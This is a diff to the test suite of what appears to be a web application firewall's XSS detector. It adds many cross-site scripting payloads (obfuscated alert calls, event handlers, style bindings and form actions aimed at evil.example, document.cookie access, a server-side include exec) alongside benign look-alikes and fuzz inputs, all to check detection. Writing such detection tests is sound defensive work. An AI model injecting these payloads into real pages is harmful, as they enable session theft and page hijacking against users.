@@ -72,6 +72,94 @@ describe("xssDetector: attacks", () => {
     ["[].sort.call`${alert}1`", "xss-js-obfuscation"],
     ["_c.constructor('alert(1)')()", "xss-js-obfuscation"],
     ["(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]", "xss-js-obfuscation"],
+    ["+!![]", "xss-js-obfuscation"],
+    ["[1].map(alert)", "xss-js-obfuscation"],
+    ['self["\\x24"]', "xss-js-obfuscation"],
+    ["window['al'+'ert'](1)", "xss-js-obfuscation"],
+    // Handlers the tag reading misses: after a quote or a decoded `&gt;`, or as a property.
+    ['"onzoom=', "xss-event-handler"],
+    ["> src onerror=confirm(1)<", "xss-event-handler"],
+    ['<button.onclick="alert(1)">', "xss-event-handler"],
+    ["throw onerror=alert,1", "xss-event-handler"],
+    ["open()>", "xss-event-handler"],
+    ["5rt(0);'>x", "xss-event-handler"],
+    ["write(1) autofocus>", "xss-event-handler"],
+    // Any `on…=` word that a quote or the value's start opens, known to browsers or not.
+    ["  onabcdefgh= ", "xss-handler-attribute"],
+    ["x' ONFOOBAR=1", "xss-handler-attribute"],
+    // Script URLs with escapes or markup after the scheme, mhtml, url() cut short.
+    ["javascript:\\u0020", "xss-js-url"],
+    [" data: , <x>", "xss-js-url"],
+    ["mhtml:http://evil.example/x.mht!xss.html", "xss-js-url"],
+    ["x=x:url(javascript", "xss-style-injection"],
+    ["STYLE=X:URL(JAVASCRIPT", "xss-style-injection"],
+    ['<div style="binding: url(//evil.example/x.xml#x);">', "xss-style-injection"],
+    ["<a style='x:no(\"*//*\");y:ex/*z*//*/*/pression(alert(1))'>", "xss-style-injection"],
+    ["<STYLE>BODY{-moz-binding:url(//evil.example/x.xml#x)}</STYLE>", "xss-style-injection"],
+    ["<style>@\\", "xss-style-injection"],
+    // Tags that load, redirect or re-encode the page.
+    ['<meta charset="UTF-7">', "xss-dangerous-tag"],
+    ["<link / asdf href  /= ", "xss-dangerous-tag"],
+    ["<:vmlframe src=x.fml>", "xss-dangerous-tag"],
+    ["<importimplementation=#default#time2>", "xss-dangerous-tag"],
+    ["<input pattern=^a+$>", "xss-form-injection"],
+    ['<form action="//evil.example/"><input name=p>', "xss-form-injection"],
+    ["<input autofocus>", "xss-dangerous-attribute"],
+    ["'formaction=//evil.example", "xss-dangerous-attribute"],
+    ["&{document.cookie=1;};", "xss-dangerous-attribute"],
+    // XML documents that fetch: namespaces and schemas from elsewhere, includes, entities.
+    [
+      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x.example/a.xsd">',
+      "xss-xml-injection",
+    ],
+    [
+      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://x.example/"/></x>',
+      "xss-xml-injection",
+    ],
+    ["foo!ENTITY % bar SYSTEM", "xss-xml-injection"],
+    // Tag names spelled so that filters read text.
+    ["<f o r m", "xss-tag-evasion"],
+    ["<d i a l o g", "xss-tag-evasion"],
+    ["< x: script", "xss-tag-evasion"],
+    ["\u00bctest\u00betest(1)\u00bc/test\u00be", "xss-tag-evasion"],
+    ["\u00d0\u00bcscript\u00d0\u00bealert(1)\u00d0\u00bc/script\u00d0\u00be", "xss-tag-evasion"],
+    ["\u00c2\u00bcscript\u00c2\u00bealert(1)\u00c2\u00bc/script\u00c2\u00be", "xss-tag-evasion"],
+    // Leaving the element or comment the value was placed in; server-side includes.
+    ["</textarea><img src=x>", "xss-context-breakout"],
+    ["</TITLE >", "xss-context-breakout"],
+    ["</body></html>", "xss-context-breakout"],
+    ["\"-->'-->", "xss-context-breakout"],
+    ['<!--#exec cmd="id"-->', "xss-context-breakout"],
+    // Script with its brackets stripped by a filter.
+    ["scriptalert(1)/script", "xss-script-tag"],
+    ["[a]script>alert('x');[a]/script>", "xss-script-tag"],
+    // Calls that prove or evaluate, word-bounded, with arguments that close.
+    ["alert(1)", "xss-js-call"],
+    ["prompt()", "xss-js-call"],
+    ["top.confirm`1`", "xss-js-call"],
+    ["setInterval(code, 1)", "xss-js-call"],
+    ["eval(location.hash.slice(1))", "xss-js-call"],
+    ['btoa("x")', "xss-js-call"],
+    ["new Function()", "xss-js-call"],
+    ["import('//evil.example/x.js')", "xss-js-call"],
+    ['import { a, b } from "./x.js";', "xss-js-call"],
+    // The DOM a payload reads or drives, however spelled.
+    ["document.cookie", "xss-dom-access"],
+    ["document /*foo*/ .     cookie", "xss-dom-access"],
+    ['(document)["cookie"]', "xss-dom-access"],
+    ['document["cookie"]', "xss-dom-access"],
+    ["window.location", "xss-dom-access"],
+    ["top['location']='//evil.example'", "xss-dom-access"],
+    ['document.querySelector("p").textContent="x"', "xss-dom-access"],
+    ["x.innerHTML='<b>'", "xss-dom-access"],
+    ["el.innerHTML", "xss-dom-access"],
+    ["';return document.cookie//", "xss-dom-access"],
+    ["alert/**/(1)", "xss-js-call"],
+    ["this.parentNode.removeChild(this)", "xss-dom-access"],
+    ["top[/al/.source+/ert/.source](1)", "xss-js-obfuscation"],
+    ["window /* x */ ['al'+'ert'](1)", "xss-js-obfuscation"],
+    ["+ADw-x+AD4-", "xss-tag-evasion"],
+    ["x{-moz-binding", "xss-style-injection"],
   ];
   it.each(attacks)("flags %j as %s at PL1", (value, rule) => {
     expect(rulesAt(value)).toContain(rule);
@@ -87,13 +175,70 @@ describe("xssDetector: attacks", () => {
   });
 
   it("reports weaker signals only at higher paranoia", () => {
-    expect(rulesAt("alert(1)")).toEqual([]);
-    expect(rulesAt("alert(1)", 2)).toContain("xss-sink-call");
-    expect(rulesAt("document.cookie")).toEqual([]);
-    expect(rulesAt("document /*x*/ . cookie", 2)).toContain("xss-dom-access");
-    expect(rulesAt("<form action=/x><input name=p>")).toEqual([]);
-    expect(rulesAt("<form action=/x><input name=p>", 2)).toContain("xss-html-injection");
+    const pl2: [string, string][] = [
+      ["fetch(url)", "xss-sink-call"],
+      ["confirm(s)", "xss-sink-call"],
+      ["the innerHTML property (read-only)", "xss-dom-property"],
+      ["{{7*7}}", "xss-template-injection"],
+      ["{{$eval.constructor}}", "xss-template-injection"],
+      ['x" src=//evil.example/a.js', "xss-html-injection"],
+      ["x' style=color:red", "xss-html-injection"],
+      ["<div#x", "xss-html-injection"],
+      ['<span class="x">', "xss-html-injection"],
+      ["<b title=x>", "xss-html-injection"],
+      ["<![CDATA[x]]>", "xss-comment-breakout"],
+      ["<!-- x", "xss-comment-breakout"],
+      ["self['name']", "xss-dom-property"],
+      ['<a href="https://example.com">x</a>', "xss-html-injection"],
+      ['<img src="https://example.com/a.png">', "xss-html-injection"],
+      ["<noscript#", "xss-html-injection"],
+      ["<svg>", "xss-html-injection"],
+      ["-->", "xss-comment-breakout"],
+      ["x-->", "xss-comment-breakout"],
+      ['"in \\u0076aluE\\u004Ff=', "xss-js-assignment"],
+      ["'  infoo.bar=", "xss-js-assignment"],
+      ["';x.y=1", "xss-js-assignment"],
+      ["onboarding=done", "xss-attribute-injection"],
+    ];
+    for (const [value, rule] of pl2) {
+      expect(rulesDecoded(value), value).toEqual([]);
+      expect(rulesDecoded(value, 2), value).toContain(rule);
+    }
     expect(rulesAt('<a href="https://example.com">x</a>', 3)).toContain("xss-html-markup");
+  });
+
+  it("reads a payload a parser split at `=`: parameter and cookie names", () => {
+    const rules = (name: string, value: string): string[] =>
+      xssDetector.inspect({ name, value }).map((d) => d.rule);
+    // `?x=1&" onmouseover=alert(1)`: the handler is the name, its code the value.
+    expect(rules('ARGS:" onmouseover', "alert(1)")).toContain("xss-event-handler");
+    expect(rules("ARGS:gt; src onerror", "confirm")).toContain("xss-event-handler");
+    // Cookie names are no target of their own: the name travels in the target's.
+    expect(rules("REQUEST_COOKIES:%3Cscript%3Ealert(1)%3C/script%3E", "x")).toContain("xss-script-tag");
+    expect(rules("REQUEST_COOKIES:＜script ＞alert(1)＜/script＞", "value")).toContain("xss-script-tag");
+    expect(rules("REQUEST_COOKIES:ja%26newline%3Bvascript%3A%20", "1")).toContain("xss-js-url");
+    // Plain names stay plain.
+    expect(rules("ARGS:onboarding", "done")).toEqual([]);
+    expect(rules("REQUEST_COOKIES:session_id", "abc123")).toEqual([]);
+    expect(rules("ARGS_NAMES:q", "q")).toEqual([]);
+  });
+
+  it("reads base64 whose `+` form decoding turned into spaces", () => {
+    const raw = Buffer.from("<img src=x onerror=alert(document.domain)>/all").toString("base64");
+    expect(raw).toContain("+");
+    const rules = xssDetector.inspect({ name: "ARGS:q", value: raw.replaceAll("+", " ") }).map((d) => d.rule);
+    expect(rules).toContain("xss-event-handler");
+  });
+
+  it("treats a path's `document.cookie` as a file name at PL1", () => {
+    const at = (name: string): string[] =>
+      xssDetector
+        .inspect({ name, value: "document.cookie" })
+        .filter((d) => d.paranoia === 1)
+        .map((d) => d.rule);
+    expect(at("REQUEST_FILENAME")).toEqual([]);
+    expect(at("ARGS:q")).toContain("xss-dom-access");
+    expect(rulesAt("/get/javascript-manual/document.cookie")).toEqual([]);
   });
 
   it("reports rule, tags, paranoia, severity and target", () => {
@@ -132,9 +277,52 @@ describe("xssDetector: benign look-alikes pass at PL1", () => {
     "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
     '{"name":"widget","price":"9.99"}',
     "data: 2024-01-01, value: 3",
+    // Placeholders, arrows, comparisons and calls in prose.
+    "Usage: cmd <input> <output>",
+    "Enter your <title> and <name> here",
+    "<enter type here>",
+    "h2<h1",
+    "step 1 --> step 2",
+    "x = f(y) > 0",
+    "Please confirm(s) the order(s)",
+    "the return value of eval is undefined",
+    "use window.open to open a popup",
+    "call the constructor (see below) then eval (carefully)",
+    "the alert (red) and confirm (green) buttons",
+    // Words that start with `on`, lists of settings, header parameters.
+    "turn online mode on",
+    "lang=en; online=1",
+    "a=1&b=2&onsale=true",
+    'form-data; name="image"; filename="test.jpg"',
+    'attachment; filename="report.pdf"; size=1234',
+    // File names and paths.
+    "The document.pdf is attached",
+    "see document.docx and location.txt",
+    "my-document.cookie-policy.html",
+    "/static/script/app.js",
+    "https://cdn.example.com/js/script.js?v=1/script",
+    // Code and queries that are not script in a page.
+    "self.assertEqual(self['name'], 'x')",
+    "SELECT * FROM users WHERE a.id = b.id AND b.name = 'x'",
+    "{{user.name}}",
+    "Hello {{ first_name }}, welcome",
+    "a <b>bold</b> claim and <br/> a <i>line</i>",
+    // Non-ASCII text that holds the high-bit bracket bytes.
+    "It's 3/4 done ¼ cup sugar",
+    "Über die Größe: sitzbezüge > fußmatten",
+    "Ð¼scriptÐ¾alert(Â¢XSSÂ¢)Ð¼/scriptÐ",
+    "Привет, 5 км/ч",
+    // Base64 and signatures that hold `on…=` after a digit or a slash.
+    "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
+    "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
   ];
   it.each(benign)("passes %j", (value) => {
     expect(rulesAt(value)).toEqual([]);
+  });
+
+  it("flags prose that names the DOM's secrets or calls a proof (a payload reads the same): tune with an exclusion", () => {
+    expect(rulesAt("Q: what does document.cookie return?")).toEqual(["xss-dom-access"]);
+    expect(rulesAt("The function prompt() is called")).toContain("xss-js-call");
   });
 
   it("flags prose that quotes a script tag (a real tag cannot be told apart): tune with an exclusion", () => {
@@ -197,6 +385,16 @@ describe("xssDetector: bounded work", () => {
         "alert",
         ".",
         "&{",
+        "on",
+        "=",
+        "-->",
+        "script",
+        "/script",
+        "document",
+        "import",
+        "from",
+        ")",
+        ">",
       ),
       4000,
     );
@@ -214,6 +412,23 @@ describe("xssDetector: bounded work", () => {
       fill(" "),
       fill("javascript:"),
       fill("a".repeat(100) + "("),
+      fill(" onx= onx="),
+      fill("script"),
+      fill("scriptalert" + "x".repeat(600)),
+      fill("import{"),
+      fill("document.document["),
+      fill("self['"),
+      fill("&{&{"),
+      fill("-->"),
+      fill("\u00bc/a"),
+      fill("< s c r i p t"),
+      fill('<p style="/*'),
+      fill("f(f(f(f("),
+      fill("x(1)"),
+      fill("{{"),
+      fill("<meta content=x "),
+      fill("+ADw-<!--"),
+      fill("<a style='x:y"),
       fill(unit.join("")),
       fc.sample(fc.string({ minLength: 65_536, maxLength: 65_536 }), 1)[0]!,
     ];
